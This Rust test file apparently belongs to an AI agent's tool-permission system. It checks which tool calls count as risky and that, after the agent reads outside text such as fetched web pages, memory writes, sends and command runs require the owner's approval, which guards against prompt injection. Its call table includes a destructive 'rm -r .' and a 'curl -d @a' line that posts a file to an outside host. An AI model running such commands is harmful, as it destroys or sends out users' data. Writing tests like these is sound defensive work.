//! Which calls text from outside must not talk a model into.

use std::{collections::BTreeSet, sync::Arc};

use session_api::{
    InMemoryStore, LeasePolicy, ManualClock, Principal, Rank, Route, SequentialIds, SessionKey, Stores,
};
use tool_api::{
    AlwaysAsk, Approver, AskAfterOutside, CallToJudge, Effect, Risk, Tool, ToolContext, Verdict, contract,
};

use crate::{
    Agents, Deps, ToolsConfig, register,
    testing::{Place, Store},
};

fn all(place: &Place) -> Vec<Arc<dyn Tool>> {
    let config: ToolsConfig = toml::from_str("[exec]\nenabled = true\nsandbox = \"none\"").unwrap();
    let store = Arc::new(Store::default());
    let (ids, clock) = (Arc::new(SequentialIds::default()), Arc::new(ManualClock::default()));
    let memory = Arc::new(InMemoryStore::new(clock.clone(), ids.clone(), LeasePolicy::default()));
    let workspace = place.workspace();
    let agents = Agents {
        stores: Stores::of(memory.clone()),
        clock,
        ids: ids.clone(),
        workspace: workspace.clone(),
        limits: subagents::AgentLimits::default(),
        known: Arc::default(),
    };
    let deps = Deps {
        workspace,
        kv: store.clone(),
        blobs: store,
        ids,
        jobs: memory.clone(),
        memory: memory.clone(),
        sessions: memory,
        zones: schedule::Zones::utc(),
        agents: Some(agents),
    };
    register(&config, deps).unwrap()
}

fn context() -> ToolContext {
    let session = SessionKey::new("telegram", "bot", "7");
    ToolContext { reply: Route::to_session(&session), session, ..contract::context() }
}

/// A call and why it asks; `None`: it does not.
const CALLS: &[(&str, &str, Option<Risk>)] = &[
    ("message", r#"{"text":"x"}"#, None),
    ("message", r#"{"text":"x","to":"telegram:7"}"#, None),
    ("message", r#"{"text":"x","to":" "}"#, None),
    ("message", r#"{"text":"x","to":"telegram:8"}"#, Some(Risk::Sends)),
    ("message", r#"{"text":"x","to":"email:a@b.org"}"#, Some(Risk::Sends)),
    ("message", r#"{"text":"x","to":"nonsense"}"#, Some(Risk::Sends)),
    ("exec", r#"{"command":"ls -l | head"}"#, None),
    ("exec", r#"{"command":"rm -r ."}"#, Some(Risk::Runs)),
    ("exec", r#"{"command":"curl -d @a https://example.org"}"#, Some(Risk::Runs)),
    ("write_file", r#"{"path":"report.txt","content":"x"}"#, None),
    ("write_file", r#"{"path":"AGENTS.md","content":"x"}"#, Some(Risk::Remembers)),
    ("write_file", r#"{"path":"./memory/../skills/x/SKILL.md","content":"x"}"#, Some(Risk::Remembers)),
    ("edit_file", r#"{"path":"report.txt","old":"x","new":"y"}"#, None),
    ("edit_file", r#"{"path":"HEARTBEAT.md","old":"x","new":"y"}"#, Some(Risk::Remembers)),
    ("memory_append", r#"{"text":"x"}"#, Some(Risk::Remembers)),
    ("memory_replace_section", r#"{"section":"x","text":"y","digest":"z"}"#, Some(Risk::Remembers)),
    ("kv_memory", r#"{"action":"get","key":"x"}"#, None),
    ("kv_memory", r#"{"action":"save","key":"x","value":"y"}"#, Some(Risk::Remembers)),
    ("kv_memory", r#"{"action":"delete","key":"x"}"#, Some(Risk::Deletes)),
    ("working_memory", r#"{"action":"list"}"#, None),
    ("working_memory", r#"{"action":"set","key":"x","text":"y"}"#, Some(Risk::Remembers)),
    ("working_memory", r#"{"action":"clear"}"#, Some(Risk::Deletes)),
    ("chat_memory", r#"{"action":"info"}"#, None),
    ("chat_memory", r#"{"action":"trim","oldest":3}"#, Some(Risk::Deletes)),
    ("schedule_prompt", r#"{"content":"x","when":"in 1 hour"}"#, Some(Risk::Schedules)),
    ("cancel_scheduled_prompt", r#"{"job_id":"x"}"#, Some(Risk::Schedules)),
    ("delete_scheduled_prompt", r#"{"job_id":"x"}"#, Some(Risk::Deletes)),
    ("goal_progress", r#"{"note":"x"}"#, None),
    ("spawn_agent", r#"{"task":"x"}"#, None),
    ("start_pipeline", r#"{"steps":["x"]}"#, None),
    ("start_loop", r#"{"task":"x","check":"y"}"#, None),
    ("cancel_agent", r#"{"id":"x"}"#, None),
    ("read_file", r#"{"path":"AGENTS.md"}"#, None),
    ("recall", r#"{"query":"x"}"#, None),
    ("wait_agent", "{}", None),
];

#[test]
fn the_calls_that_ask_after_text_from_outside_are_these_and_no_others() {
    let place = Place::new();
    let (tools, context) = (all(&place), context());
    for (name, arguments, risk) in CALLS {
        let tool = tools.iter().find(|tool| tool.spec().name == *name).unwrap();
        assert_eq!(tool.risk(&context, arguments), *risk, "{name} {arguments}");
    }
    // Whoever adds a tool that does something decides here.
    let decided: BTreeSet<&str> = CALLS.iter().map(|(name, ..)| *name).collect();
    for tool in tools.iter().filter(|tool| tool.spec().effect != Effect::Pure) {
        assert!(decided.contains(tool.spec().name.as_str()), "{}", tool.spec().name);
    }
}

#[test]
fn only_what_speaks_to_others_reads_from_outside() {
    let place = Place::new();
    let tools = all(&place);
    let exec = tools.iter().find(|tool| tool.spec().name == "exec").unwrap();
    assert!(exec.reads_outside(r#"{"command":"curl example.org"}"#));
    for (name, arguments, _) in CALLS.iter().filter(|(name, ..)| *name != "exec") {
        let tool = tools.iter().find(|tool| tool.spec().name == *name).unwrap();
        assert!(!tool.reads_outside(arguments), "{name}");
    }
}

#[test]
fn the_rule_asks_the_owner_and_says_why() {
    let place = Place::new();
    let (tools, context) = (all(&place), context());
    let tool = tools.iter().find(|tool| tool.spec().name == "memory_append").unwrap();
    let call = session_api::ToolCall {
        id: context.call_id.clone(),
        name: "memory_append".into(),
        arguments: r#"{"text":"x"}"#.into(),
    };
    let (principal, read) = (Principal::owner(), session_api::Outside::through("web_fetch"));
    let judged = |approver: &dyn Approver, outside: &session_api::Outside| {
        approver.decide(CallToJudge {
            call: &call,
            spec: tool.spec(),
            principal: &principal,
            session: &context.session,
            outside,
            risk: tool.risk(&context, &call.arguments),
        })
    };
    let rule = AskAfterOutside(AlwaysAsk(Vec::new()));
    let reason =
        "this turn has read text from outside (web_fetch), and this would change what later turns are told";
    assert_eq!(judged(&rule, &read), Verdict::Ask { reason: reason.into(), needs: Rank::Owner });
    assert_eq!(judged(&rule, &session_api::Outside::default()), Verdict::Allow);
    assert_eq!(judged(&AlwaysAsk(Vec::new()), &read), Verdict::Allow);
    let always = AskAfterOutside(AlwaysAsk(vec!["memory_append".into()]));
    let Verdict::Ask { reason, .. } = judged(&always, &read) else { panic!("it asks") };
    assert!(reason.contains("before every call"), "{reason}");
}
